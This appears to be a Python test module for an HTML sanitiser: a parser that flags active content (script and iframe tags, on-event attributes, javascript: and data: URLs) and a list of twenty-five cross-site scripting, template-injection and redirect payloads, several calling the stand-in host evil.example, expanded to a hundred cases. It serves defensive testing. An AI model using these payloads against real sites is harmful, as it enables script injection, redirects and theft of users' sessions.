"""Texts that would act in a page that does not show them as texts, and what does act in a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ACTING = re.compile(r"\s*(javascript|data|vbscript):", re.IGNORECASE)
LEADING = {"href", "src", "action", "formaction"}


class Reader(HTMLParser):
    """What could act in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if (tag == "script" and "src" not in dict(attrs)) or tag in {"iframe", "object", "embed", "style", "base"}:
            self.acting.append(tag)
        for name, value in attrs:
            leads = name in LEADING and ACTING.match(value or "")
            if name.startswith("on") or name == "style" or leads:
                self.acting.append(f"{tag} {name}={value}")


def acting(text: str) -> list[str]:
    """What could act in a page, though nobody of us has written it."""
    reader = Reader()
    reader.feed(text)
    return reader.acting


SCRIPTS = (
    "<script>alert({})</script>",
    '"><img src=x onerror=alert({})>',
    "'><svg onload=alert({})>",
    "javascript:alert({})",
    "[x](javascript:alert({}))",
    "[x](JaVaScRiPt&#58;alert({}))",
    "![x](data:text/html;base64,PHNjcmlwdD4{})",
    '<a href="javascript:alert({})">x</a>',
    '<iframe srcdoc="<script>alert({})</script>">',
    "<style>*{{background:url(//evil.example/{})}}</style>",
    "{{{{7*{}}}}}",
    "{{% for x in [{}] %}}",
    "<details open ontoggle=alert({})>",
    "<math><mtext><script>alert({})</script>",
    "</textarea><script>alert({})</script>",
    "</title><script>alert({})</script>",
    "<!--><script>alert({})</script>-->",
    "<form action=//evil.example/{}><button>",
    '<meta http-equiv=refresh content="0;url=//evil.example/{}">',
    "<base href=//evil.example/{}>",
    "&lt;script&gt;alert({})&lt;/script&gt;",
    "<p hx-get=/users/sign_out hx-trigger=load id=a{}>",
    '<div style="position:fixed" class=error id=content>{}</div>',
    "\u202eexe.{}",
    "<object data=//evil.example/{}></object>",
)
ATTACKS = [each.format(number) for number in range(4) for each in SCRIPTS]  # a hundred
